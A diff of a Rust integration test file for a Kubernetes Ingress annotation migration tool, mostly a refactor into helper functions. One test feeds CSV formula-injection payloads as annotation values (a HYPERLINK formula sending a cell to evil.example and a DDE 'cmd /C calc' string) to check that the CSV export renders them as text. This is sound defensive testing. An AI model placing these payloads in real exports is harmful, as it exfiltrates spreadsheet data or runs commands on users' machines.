@@ -39,6 +39,14 @@ async fn spawn(namespaces: &[&str], server_yaml: &str, overrides_yaml: &str) -> 
     app
 }
 
+/// [`spawn`] with one namespace that holds Ingress `web` of class `mig-nginx` with
+/// `annotations`.
+async fn spawn_web(namespace: &str, annotations: Value) -> RealApp {
+    let app = spawn(&[namespace], "", "").await;
+    app.web(namespace, annotations).await;
+    app
+}
+
 impl RealApp {
     /// Creates or updates an Ingress `name` of class `class` with `annotations` (its host
     /// `<name>.<namespace>.example.com`, to Service `name`).
@@ -48,6 +56,25 @@ impl RealApp {
         ingress["metadata"]["annotations"] = annotations;
         ingress["spec"]["ingressClassName"] = json!(class);
         self.kube.put(INGRESS, ingress).await;
+    }
+
+    /// Ingress `web` of class `mig-nginx` (ingress-nginx) with `annotations`.
+    async fn web(&self, namespace: &str, annotations: Value) {
+        self.ingress(namespace, "web", "mig-nginx", annotations)
+            .await;
+    }
+
+    /// The body of `GET path` (the JSON report or the CSV), as the admin.
+    async fn text(&self, path: &str) -> String {
+        self.get(path).await.text().await.expect("a body")
+    }
+
+    /// The annotation explainer's answer for Ingress `web` of `namespace`.
+    async fn explain_web(&self, namespace: &str) -> (u16, Value) {
+        self.get_json(&format!(
+            "/api/objects/ingresses/{namespace}/web/annotations"
+        ))
+        .await
     }
 
     /// `GET path` as `user` of `groups`, as the sign-in proxy forwards it.
@@ -181,10 +208,8 @@ async fn a_user_limited_to_one_namespace_sees_only_its_counts() {
     let (shop, other) = ("mig-shop", "mig-hidden");
     let app = spawn(&[shop, other], LOOPBACK_IS_TRUSTED, mapping).await;
     for namespace in [shop, other] {
-        app.ingress(
+        app.web(
             namespace,
-            "web",
-            "mig-nginx",
             json!({format!("{NGINX}limit-rps"): "10", format!("{NGINX}x-{namespace}"): "1"}),
         )
         .await;
@@ -243,12 +268,9 @@ async fn a_user_limited_to_one_namespace_sees_only_its_counts() {
 #[tokio::test]
 async fn a_formula_in_an_annotation_value_comes_out_of_the_csv_as_text() {
     let namespace = "mig-csv";
-    let app = spawn(&[namespace], "", "").await;
     let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
-    app.ingress(
+    let app = spawn_web(
         namespace,
-        "web",
-        "mig-nginx",
         json!({
             format!("{NGINX}rewrite-target"): formula,
             format!("{NGINX}x-forwarded-prefix"): "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -301,34 +323,26 @@ async fn a_formula_in_an_annotation_value_comes_out_of_the_csv_as_text() {
 #[tokio::test]
 async fn the_explainer_says_what_each_annotation_does_for_the_class_s_controller() {
     let namespace = "mig-explain";
-    let app = spawn(&[namespace], "", "").await;
-    app.ingress(
-            namespace,
-            "web",
-            "mig-nginx",
-            json!({
-                format!("{NGINX}rewrite-target"): "/$1",
-                format!("{NGINX}ssl-redirect"): "yes",
-                format!("{NGINX}configuration-snippet"): "proxy_set_header Authorization \"Basic c2VjcmV0\";",
-                format!("{NGINX}proxy-body-sise"): "8m",
-                "traefik.ingress.kubernetes.io/router.tls": "true",
-                "cert-manager.io/cluster-issuer": "letsencrypt",
-            }),
-        )
-        .await;
+    let app = spawn_web(
+        namespace,
+        json!({
+            format!("{NGINX}rewrite-target"): "/$1",
+            format!("{NGINX}ssl-redirect"): "yes",
+            format!("{NGINX}configuration-snippet"):
+                "proxy_set_header Authorization \"Basic c2VjcmV0\";",
+            format!("{NGINX}proxy-body-sise"): "8m",
+            "traefik.ingress.kubernetes.io/router.tls": "true",
+            "cert-manager.io/cluster-issuer": "letsencrypt",
+        }),
+    )
+    .await;
 
-    let response = app
-        .get(&format!(
-            "/api/objects/ingresses/{namespace}/web/annotations"
-        ))
-        .await;
-    assert_eq!(response.status(), 200);
-    let text = response.text().await.unwrap();
+    let (status, answer) = app.explain_web(namespace).await;
+    assert_eq!(status, 200);
     assert!(
-        !text.contains("c2VjcmV0"),
-        "the snippet's value leaked: {text}"
+        !answer.to_string().contains("c2VjcmV0"),
+        "the snippet's value leaked: {answer}"
     );
-    let answer: Value = serde_json::from_str(&text).unwrap();
     assert_eq!(answer["ingressClassName"], "mig-nginx");
     assert_eq!(answer["controller"], "k8s.io/ingress-nginx");
     assert_eq!(answer["controllerName"], "ingress-nginx");
@@ -389,22 +403,15 @@ async fn the_explainer_says_what_each_annotation_does_for_the_class_s_controller
 #[tokio::test]
 async fn huge_values_are_bounded_in_every_answer() {
     let namespace = "mig-huge";
-    let app = spawn(&[namespace], "", "").await;
     // Annotations may hold 256 KiB in all.
     let huge = "a".repeat(200_000);
-    app.ingress(
-            namespace,
-            "web",
-            "mig-nginx",
-            json!({format!("{NGINX}cors-allow-origin"): huge, format!("{NGINX}limit-rps"): "9".repeat(40_000)}),
-        )
-        .await;
+    let app = spawn_web(
+        namespace,
+        json!({format!("{NGINX}cors-allow-origin"): huge, format!("{NGINX}limit-rps"): "9".repeat(40_000)}),
+    )
+    .await;
 
-    let (status, answer) = app
-        .get_json(&format!(
-            "/api/objects/ingresses/{namespace}/web/annotations"
-        ))
-        .await;
+    let (status, answer) = app.explain_web(namespace).await;
     assert_eq!(status, 200);
     let cors = explanation(&answer, &format!("{NGINX}cors-allow-origin"));
     assert_eq!(cors["value"].as_str().unwrap().chars().count(), 257);
@@ -413,18 +420,12 @@ async fn huge_values_are_bounded_in_every_answer() {
     assert_eq!(rps["validity"], "invalid", "checked whole");
 
     let report = app
-        .get(&format!("/api/migration?namespaces={namespace}"))
-        .await
-        .text()
-        .await
-        .unwrap();
+        .text(&format!("/api/migration?namespaces={namespace}"))
+        .await;
     assert!(report.len() < 8_000, "{} bytes", report.len());
     let csv = app
-        .get(&format!("/api/migration?namespaces={namespace}&format=csv"))
-        .await
-        .text()
-        .await
-        .unwrap();
+        .text(&format!("/api/migration?namespaces={namespace}&format=csv"))
+        .await;
     assert!(csv.len() < 4_000, "{} bytes", csv.len());
 }
 
@@ -441,13 +442,8 @@ async fn without_permission_on_ingress_classes_the_report_says_what_to_grant() {
         real_kube::INGRESSES_ONLY,
     )
     .await;
-    app.ingress(
-        namespace,
-        "web",
-        "mig-nginx",
-        json!({format!("{NGINX}proxy-body-size"): "1m"}),
-    )
-    .await;
+    app.web(namespace, json!({format!("{NGINX}proxy-body-size"): "1m"}))
+        .await;
     let (status, report) = app.get_json("/api/migration").await;
     assert_eq!(status, 200, "{report}");
     assert!(
